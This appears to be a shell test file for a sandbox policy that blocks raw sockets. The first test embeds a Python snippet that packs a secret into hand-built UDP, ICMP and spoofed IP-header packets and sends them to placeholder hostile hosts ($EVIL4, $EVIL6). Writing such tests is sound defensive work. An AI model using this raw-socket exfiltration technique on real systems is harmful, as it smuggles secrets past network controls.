# shellcheck shell=bash
# SPDX-License-Identifier: GPL-2.0
# Raw sockets write their own headers: one that says UDP, ICMP, and a whole IP header of the job's making.

test_a_raw_socket_sends_nothing() {
	attack <<-'END'
	import os, socket, struct, sys
	import job
	kind, host = sys.argv[1:]
	family = socket.AF_INET6 if ":" in host else socket.AF_INET
	protocol = {"udp": 17, "icmp": 1 if family == socket.AF_INET else 58, "header": 255}[kind]
	sock = job.open_socket(family, socket.SOCK_RAW, protocol)
	message = struct.pack("!4H", 7, 9999, 8 + len(job.SECRET), 0) + job.SECRET
	if kind == "icmp":
	    message = struct.pack("!BBHHH", 8 if family == socket.AF_INET else 128, 0, 0, 1, 1) + job.SECRET
	if kind == "header":
	    message = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(message), 0, 0, 64, 17, 0,
	                          socket.inet_aton("192.0.2.2"), socket.inet_aton(host)) + message
	sock.sendto(message, (host, 0))
	END
	local kind host
	policy_feed
	while read -r kind host; do
		new_secret
		echo "# row: $kind $host"
		verdict socket-type "${ATTACK[@]}" $kind $host
	done <<-END
	udp $EVIL4
	udp $EVIL6
	icmp $EVIL4
	icmp $EVIL6
	header $EVIL4
	END
}

test_a_raw_socket_is_refused_also_to_an_allowed_address() {
	attack <<-'END'
	import socket
	try:
	    socket.socket(socket.AF_INET, socket.SOCK_RAW, 17)
	except OSError:
	    raise SystemExit(1)
	END
	policy_feed
	guarded -- "${ATTACK[@]}"
	status_is 1
	recorded Reason=socket-type Hook=sock_create
}
